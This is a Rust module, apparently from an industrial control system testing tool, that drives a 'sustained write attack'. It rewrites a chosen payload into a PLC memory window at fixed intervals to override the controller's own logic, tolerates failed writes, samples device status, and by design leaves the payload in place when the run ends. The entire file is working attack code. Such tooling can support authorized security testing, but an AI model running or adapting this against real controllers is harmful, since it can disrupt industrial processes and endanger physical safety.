//! Sustained write attack driver
//!
//! Re-writes one payload into a memory window on a fixed interval for
//! a bounded duration, defeating PLC logic that periodically rewrites
//! its own state. The payload is deliberately left in place when the
//! run ends; restoring it would undo the demonstrated effect.

use crate::observer::ObservationSource;
use chrono::{DateTime, Utc};
use icsprobe_core::{DeviceSession, Error, MemoryWindow, ObservationSnapshot, Result};
use serde::Serialize;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};
use tracing::{info, warn};
use uuid::Uuid;

const DEFAULT_MAX_CONSECUTIVE_FAILURES: u32 = 5;

/// Parameters of one sustained write run
#[derive(Debug, Clone)]
pub struct SustainConfig {
    pub window: MemoryWindow,
    pub data: Vec<u8>,
    /// Total run length; zero means no write at all
    pub duration: Duration,
    /// Pause between consecutive writes
    pub interval: Duration,
    /// Consecutive write failures tolerated before aborting
    pub max_consecutive_failures: u32,
}

impl SustainConfig {
    pub fn new(window: MemoryWindow, data: Vec<u8>, duration: Duration, interval: Duration) -> Self {
        Self {
            window,
            data,
            duration,
            interval,
            max_consecutive_failures: DEFAULT_MAX_CONSECUTIVE_FAILURES,
        }
    }
}

/// How a sustained run ended
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum SustainOutcome {
    /// Ran for the full duration
    Completed,
    /// Stopped through the cancel flag
    Cancelled,
    /// Too many consecutive write failures
    AbortedEarly,
}

/// One status snapshot taken during the run
#[derive(Debug, Clone, Serialize)]
pub struct StatusSample {
    pub at: DateTime<Utc>,
    pub snapshot: ObservationSnapshot,
}

/// Outcome of one sustained write run
#[derive(Debug, Clone, Serialize)]
pub struct SustainReport {
    pub id: Uuid,
    pub window: MemoryWindow,
    pub started_at: DateTime<Utc>,
    pub elapsed_ms: u64,
    /// Write attempts, successful or not
    pub ticks: u64,
    pub writes_ok: u64,
    pub writes_failed: u64,
    pub samples: Vec<StatusSample>,
    pub outcome: SustainOutcome,
}

/// Repeated-write attack against one memory window.
///
/// Individual write failures are counted, not fatal; the device logic
/// the attack is fighting can make single writes bounce. Only a streak
/// of failures aborts the run.
pub struct SustainedWriteAttack {
    config: SustainConfig,
    cancel: Arc<AtomicBool>,
}

impl SustainedWriteAttack {
    pub fn new(config: SustainConfig) -> Self {
        Self {
            config,
            cancel: Arc::new(AtomicBool::new(false)),
        }
    }

    /// Flag that stops the run before its next tick
    pub fn cancel_flag(&self) -> Arc<AtomicBool> {
        self.cancel.clone()
    }

    /// Drive the attack until the duration elapses, the cancel flag is
    /// set, or the failure streak hits the configured limit.
    ///
    /// When an observer is given, a status snapshot is taken after each
    /// tick; snapshot failures are logged and skipped since losing a
    /// sample is no reason to stop pressing the device.
    pub async fn run<S>(
        &self,
        session: &mut S,
        observer: Option<&dyn ObservationSource>,
    ) -> Result<SustainReport>
    where
        S: DeviceSession + ?Sized,
    {
        self.config.window.validate_write(&self.config.data)?;
        if self.config.interval.is_zero() && !self.config.duration.is_zero() {
            return Err(Error::invalid_parameter("interval", "must be positive"));
        }
        if !session.is_connected() {
            return Err(Error::NotConnected);
        }

        let started_at = Utc::now();
        let started = Instant::now();
        let deadline = started + self.config.duration;
        let mut report = SustainReport {
            id: Uuid::now_v7(),
            window: self.config.window,
            started_at,
            elapsed_ms: 0,
            ticks: 0,
            writes_ok: 0,
            writes_failed: 0,
            samples: Vec::new(),
            outcome: SustainOutcome::Completed,
        };
        info!(
            id = %report.id,
            window = %self.config.window,
            duration_ms = self.config.duration.as_millis() as u64,
            interval_ms = self.config.interval.as_millis() as u64,
            "starting sustained write"
        );

        let mut consecutive_failures = 0u32;
        loop {
            if self.cancel.load(Ordering::Relaxed) {
                info!(id = %report.id, "sustained write cancelled");
                report.outcome = SustainOutcome::Cancelled;
                break;
            }
            if Instant::now() >= deadline {
                break;
            }

            report.ticks += 1;
            match session.write(&self.config.window, &self.config.data).await {
                Ok(()) => {
                    report.writes_ok += 1;
                    consecutive_failures = 0;
                }
                Err(e) => {
                    report.writes_failed += 1;
                    consecutive_failures += 1;
                    warn!(
                        id = %report.id,
                        error = %e,
                        streak = consecutive_failures,
                        "sustained write tick failed"
                    );
                    if consecutive_failures >= self.config.max_consecutive_failures {
                        report.outcome = SustainOutcome::AbortedEarly;
                        break;
                    }
                }
            }

            if let Some(observer) = observer {
                match observer.fetch().await {
                    Ok(snapshot) => report.samples.push(StatusSample {
                        at: Utc::now(),
                        snapshot,
                    }),
                    Err(e) => warn!(id = %report.id, error = %e, "status sample lost"),
                }
            }

            tokio::time::sleep(self.config.interval).await;
        }

        report.elapsed_ms = started.elapsed().as_millis() as u64;
        info!(
            id = %report.id,
            ticks = report.ticks,
            writes_ok = report.writes_ok,
            writes_failed = report.writes_failed,
            outcome = ?report.outcome,
            "sustained write finished"
        );
        Ok(report)
    }
}
